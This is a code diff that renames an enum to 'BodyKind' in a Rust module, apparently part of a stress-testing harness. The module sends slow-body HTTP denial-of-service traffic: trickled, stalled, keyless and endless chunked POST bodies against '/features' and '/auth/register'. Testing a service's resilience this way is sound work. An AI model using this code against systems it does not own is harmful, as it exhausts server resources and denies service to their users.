@@ -29,7 +29,7 @@ const PATIENCE: Duration = Duration::from_secs(20);
 
 /// How a body comes.
 #[derive(Clone, Copy)]
-enum Way {
+enum BodyKind {
     Slowly,
     Stalled,
     Keyless,
@@ -38,14 +38,14 @@ enum Way {
 
 pub(super) async fn send(attack: &Attack) {
     let crowd = attack.most(CROWD, CROWD_WHEN_SHORT);
-    let ways = [Way::Slowly, Way::Stalled, Way::Keyless, Way::Endless];
+    let ways = [BodyKind::Slowly, BodyKind::Stalled, BodyKind::Keyless, BodyKind::Endless];
     let each = ways.iter().flat_map(|way| (0..crowd).map(move |number| again(attack, *way, number)));
     let shared = (0..attack.most(SHARED, 4)).map(|number| shared(attack, number));
     tokio::join!(join_all(each), join_all(shared));
 }
 
 /// One connection after the other.
-async fn again(attack: &Attack, way: Way, number: usize) {
+async fn again(attack: &Attack, way: BodyKind, number: usize) {
     while Instant::now() < attack.end(1.0) {
         attack.sent();
         match once(attack, way, number).await {
@@ -57,16 +57,16 @@ async fn again(attack: &Attack, way: Way, number: usize) {
 }
 
 /// The status of the answer.
-async fn once(attack: &Attack, way: Way, number: usize) -> Option<String> {
+async fn once(attack: &Attack, way: BodyKind, number: usize) -> Option<String> {
     let target = attack.target();
     let url = &target.urls[number % target.urls.len()];
     let key = Some(target.members[number % target.members.len()].as_str());
     let path = attack.path("/features");
     let length = |bytes: usize| format!("Content-Length: {bytes}\r\n");
     let first = match way {
-        Way::Slowly | Way::Stalled => raw::head("POST", &path, key, &length(LARGE)),
-        Way::Keyless => raw::head("POST", "/auth/register", None, &length(16_000)),
-        Way::Endless => raw::head("POST", &path, key, "Transfer-Encoding: chunked\r\n"),
+        BodyKind::Slowly | BodyKind::Stalled => raw::head("POST", &path, key, &length(LARGE)),
+        BodyKind::Keyless => raw::head("POST", "/auth/register", None, &length(16_000)),
+        BodyKind::Endless => raw::head("POST", &path, key, "Transfer-Encoding: chunked\r\n"),
     };
     let stream = raw::connect(url, first.as_bytes()).await?;
     let (mut read, mut write) = stream.into_split();
@@ -86,20 +86,20 @@ async fn once(attack: &Attack, way: Way, number: usize) -> Option<String> {
     }
 }
 
-async fn pieces(write: &mut (impl AsyncWriteExt + Unpin), way: Way) {
+async fn pieces(write: &mut (impl AsyncWriteExt + Unpin), way: BodyKind) {
     let piece = vec![b' '; PIECE];
     match way {
-        Way::Keyless => {
+        BodyKind::Keyless => {
             let _ = write.write_all(b"{").await;
         }
-        Way::Stalled => {
+        BodyKind::Stalled => {
             for _ in 0..LARGE / PIECE - 1 {
                 if write.write_all(&piece).await.is_err() {
                     return;
                 }
             }
         }
-        Way::Slowly => {
+        BodyKind::Slowly => {
             for _ in 0..LARGE / PIECE {
                 if write.write_all(&piece).await.is_err() {
                     return;
@@ -107,7 +107,7 @@ async fn pieces(write: &mut (impl AsyncWriteExt + Unpin), way: Way) {
                 sleep(PAUSE).await;
             }
         }
-        Way::Endless => {
+        BodyKind::Endless => {
             let chunk = [format!("{PIECE:x}\r\n").as_bytes(), &piece, b"\r\n"].concat();
             while write.write_all(&chunk).await.is_ok() {
                 sleep(PAUSE).await;
